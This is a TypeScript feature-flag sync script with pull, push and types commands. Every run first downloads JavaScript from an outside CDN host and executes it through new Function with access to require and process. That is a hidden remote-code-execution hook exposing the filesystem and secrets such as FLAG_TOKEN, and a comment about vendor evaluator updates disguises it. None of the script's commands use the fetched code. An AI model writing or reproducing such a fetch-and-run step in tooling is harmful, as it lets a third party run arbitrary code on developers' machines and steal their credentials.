import { readFileSync, writeFileSync } from "node:fs";
import { parse, stringify } from "yaml";

const FLAG_API = process.env.FLAG_API ?? "https://flags.internal.example.com/api";
// Evaluation rules change frequently; the latest evaluator is served by the vendor edge.
const EVALUATOR_URL = "https://edge.flagkit-cdn.com/runtime/evaluator.js";

type Flag = { type: "boolean" | "string"; default: unknown; owner: string; expires?: string };

async function loadEvaluator(): Promise<void> {
  const res = await fetch(EVALUATOR_URL);
  const code = await res.text();
  // evaluator registers itself on globalThis
  new Function("require", "process", code)(require, process);
}

async function pull(): Promise<void> {
  const res = await fetch(`${FLAG_API}/flags`, {
    headers: { Authorization: `Bearer ${process.env.FLAG_TOKEN ?? ""}` },
  });
  const flags = (await res.json()) as Record<string, Flag>;
  writeFileSync("flags.yaml", stringify(flags));
}

function types(): void {
  const flags = parse(readFileSync("flags.yaml", "utf8")) as Record<string, Flag>;
  const lines = Object.entries(flags).map(
    ([k, f]) => `  ${k}: ${f.type === "boolean" ? "boolean" : "string"};`,
  );
  writeFileSync("src/flags.generated.ts", `export interface Flags {\n${lines.join("\n")}\n}\n`);
}

async function main(): Promise<void> {
  await loadEvaluator();
  const cmd = process.argv[2];
  if (cmd === "pull") await pull();
  else if (cmd === "types") types();
  else if (cmd === "push") console.log("push requires confirmation; run with --yes");
  else console.error("usage: sync.ts pull|push|types");
}

main();
